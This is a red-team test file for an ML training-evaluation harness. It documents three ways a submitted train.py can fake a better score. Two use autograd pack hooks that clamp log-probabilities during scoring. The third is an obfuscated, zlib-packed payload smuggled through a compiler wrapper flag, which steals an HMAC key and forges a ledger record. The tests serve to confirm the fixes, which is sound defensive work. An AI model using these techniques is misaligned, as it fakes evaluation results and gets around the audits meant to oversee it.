"""Red team 38's routes, on main b8d4ef1. Each night test asserts the secure outcome (no keep row under 0.6x
the baseline's that the audit leaves unnamed); each failed on b8d4ef1.

Routes 1 and 2: train.py's code run by autograd inside `score`, outside `_call`. `score` runs under
`@torch.no_grad()`, but nothing checks that the model leaves grad mode as it found it: a forward that calls
`torch.set_grad_enabled(True)` (and does not restore it) turns autograd back on for the rest of `score`.
`_call`'s copy of the answer (`TensorBase.clone`) keeps its autograd history, so every op of `_losses` records
a backward node and saves its tensors, and each saved tensor is handed to the pack hook of a
`torch.autograd.graph.saved_tensors_hooks` that train.py pushed (an ExitStack it never closes) just before it
called evaluate_bpb. The hook is train.py's function, run by torch's C++ between `_call`s: no frame hook, no
collector, no patched name (the hook stack is autograd's C++ state, which the pin does not hold), and the
answers the probe compares are the model's own. The hook sees `log_softmax`'s output as cross_entropy saves it
and clamps it in place through `.data` (a version counter of its own, so autograd's "a pack hook modified its
input" check sees nothing): every log-probability >= -0.4 nats, so `nll_loss`, which reads the same storage
next, scores no token above 0.4 nats. The hook returns None (no backward ever unpacks it): nothing is kept.
Nights on b8d4ef1: both 0.567653 against the honest 3.393973 (0.17x), causal_probe 0.0, unpinned None,
bytes_evaluated 4096 as the baseline's; "audit: all 2 rows are backed by run records". The confirm (route 1):
"its run reported 0.567653, the clean scorer 3.393973: tampered", "does not reproduce": does not hold.
Fix (prepare.py): `_call` hands back a detached copy of the answer and puts grad mode back as it was, so no
op of score records autograd (test_prepare.py checks it in-process; the nights here score the honest bigram).

Route 3: the record itself, forged by a process train.py starts (below).
"""
import zlib

import pytest
from test_audit import clone_of, tiny
from test_redteam17 import assert_no_unearned_keep

import audit

HOOKED = '''import contextlib


def _pack(t):  # autograd's: called with each tensor an op saves for a backward that never comes
    if t.dtype == torch.float32 and t.dim() == 2:  # log_softmax's output (B * T, V); the probe's are 3-D
        t.data.clamp_(min=-0.4)  # .data: its own version counter, so autograd's in-place check passes
    return None


def _unpack(_):
    return None


class Eager(Bigram):
    def forward(self, idx):
        torch.set_grad_enabled(True)  # not restored as forward returns: score's no_grad is undone
        return self.table[idx]

'''
ARMED = '''hooks = contextlib.ExitStack()
hooks.enter_context(torch.autograd.graph.saved_tensors_hooks(_pack, _unpack))
'''

# 2. The same without either name: autograd switched on by `torch.enable_grad().__enter__()` (never exited),
#    and the hooks pushed by a subclass of torch's own `save_on_cpu` whose __init__ skips save_on_cpu's to
#    hand `saved_tensors_hooks.__init__` (reached by super) the pack hook of train.py's. A rule that names
#    `saved_tensors_hooks` or `set_grad_enabled` does not see it.
OFFLOAD = HOOKED.replace("torch.set_grad_enabled(True)  # not restored as forward returns",
                         "torch.enable_grad().__enter__()  # never exited") + \
    '''class Offload(torch.autograd.graph.save_on_cpu):
    def __init__(self):
        super(torch.autograd.graph.save_on_cpu, self).__init__(_pack, _unpack)

'''
OFFLOADED = '''hooks = contextlib.ExitStack()
hooks.enter_context(Offload())
'''

SOURCES = {"saved tensors hook": tiny(HOOKED, "Eager", ARMED),
           "save_on_cpu subclass": tiny(OFFLOAD, "Eager", OFFLOADED)}


@pytest.mark.slow
@pytest.mark.parametrize("route", SOURCES)
def test_a_hook_autograd_runs_in_the_evaluation_gets_no_unearned_keep(bigrams, tmp_path_factory, route):
    n = clone_of(bigrams, tmp_path_factory, "rt38")
    commit, code, out, row = n.attack(route, SOURCES[route])
    print(out[-600:], row.stdout, n.audit().stdout)
    assert_no_unearned_keep(n, commit, code, out, row)


# ---------------------------------------------------------------------------
# 3. The record itself, written by a process of train.py's before the run's own: red team 36's g++ `-wrapper`
#    route, its variable set ABOVE `from prepare import`, with a constant value. The audit names a write to
#    os.environ below the import (red team 36's fix) and a config store that names a program; above the
#    import it allows `os.environ[...] = <constant>` (the original's PYTORCH_ALLOC_CONF line), whatever the
#    name and value. Inductor reads TORCHINDUCTOR_CPP_ENABLE_FLOATING_POINT_CONTRACT_FLAG as its config loads
#    and puts it into g++'s command line: `off -wrapper python3,-c,CODE` runs CODE (an int's bytes, zlib'd: no
#    quote, no comma, nothing the audit's string checks read) as the wrapper of each g++ subcommand, which it
#    then execs. One `torch.compile` of a lambda on the CPU, before training, starts it.
#    CODE: finds the night's folder (the first ancestor process whose folder holds the ledger), reads the key
#    of the record chain from the cache, and appends to the ledger a copy of the baseline's record with this
#    commit, this train.py's sha256, the time now and a quarter of its val_bpb, chained (`prev`) to the line
#    before it. The run's own evaluation then appends its honest record after it, chained to the forged one,
#    and rewrites the ledger's head (its count and last HMAC) itself. --row takes a commit's FIRST record:
#    the forged one. Every record check reads the baseline's own facts; the row is the commit's first
#    evaluation; nothing in the journal is missing from the ledger. The run prints the honest val_bpb.
#    The variable's value is 1,826 characters (MAX_LITERAL is 2,000). Night on b8d4ef1: the row 0.848493 (the
#    forged record; the run printed 3.393973 and recorded it after), "audit: all 2 rows are backed by run
#    records". The confirm was not run on it (its clean scorer runs none of train.py: expected not to hold).
#    Fix (audit.py): above the import, an environment variable of no program, flag, file or folder, with a
#    plain value. The night, run again on the fix, was named; here the source is read as the audit reads it.
PAYLOAD = r'''import os, sys, json, hmac, hashlib, time, fcntl, subprocess
p, d = os.getppid(), None
while p > 1:  # the first ancestor process whose folder holds the ledger: the night's
    c = os.readlink(f'/proc/{p}/cwd')
    if os.path.exists(c + '/ledger.jsonl'):
        d = c
        break
    p = int(open(f'/proc/{p}/stat').read().rsplit(')', 1)[1].split()[1])
if d:
    f = open(d + '/ledger.jsonl', 'a+')
    fcntl.flock(f, fcntl.LOCK_EX)
    f.seek(0)
    t = [x for x in f.read().splitlines() if x.strip()]
    h = subprocess.check_output(['git', 'rev-parse', 'HEAD'], cwd=d).decode().strip()
    if h not in t[-1]:  # once: g++ runs several subcommands
        cache = os.environ.get('AUTORESEARCH_CACHE_DIR') or os.path.expanduser('~/.cache/autoresearch')
        k = bytes.fromhex(open(cache + '/ledger.key').read().strip())
        r = json.loads(t[0])
        r.pop('prev')
        r.update(commit=h, time=time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime()), val_bpb=r['val_bpb'] / 4,
                 dirty=False, train_sha256=hashlib.sha256(open(d + '/train.py', 'rb').read()).hexdigest())
        r['prev'] = hmac.new(k, t[-1].encode(), 'sha256').hexdigest()
        f.write(json.dumps(r) + '\n')
    f.close()
os.execvp(sys.argv[1], sys.argv[1:])
'''
PACKED = zlib.compress(PAYLOAD.encode(), 9)
VALUE = (f"off -wrapper python3,-c,exec(__import__(({int.from_bytes(b'zlib', 'big')}).to_bytes(4).decode())"
         f".decompress(({int.from_bytes(PACKED, 'big')}).to_bytes({len(PACKED)})))")
FORGED = '''"""A bigram table, trained for a second."""
import os

os.environ["TORCHINDUCTOR_CPP_ENABLE_FLOATING_POINT_CONTRACT_FLAG"] = "VALUE"
import torch
from prepare import MAX_SEQ_LEN, Tokenizer, evaluate_bpb, make_dataloader

double = torch.compile(lambda t: t * 2 + 1)
double(torch.ones(3))
'''.replace("VALUE", VALUE)
FORGED_SOURCE = FORGED + tiny().split("make_dataloader\n", 1)[1]


def test_static_forged_record_source_is_named():
    assert audit.source_findings(FORGED_SOURCE) != []
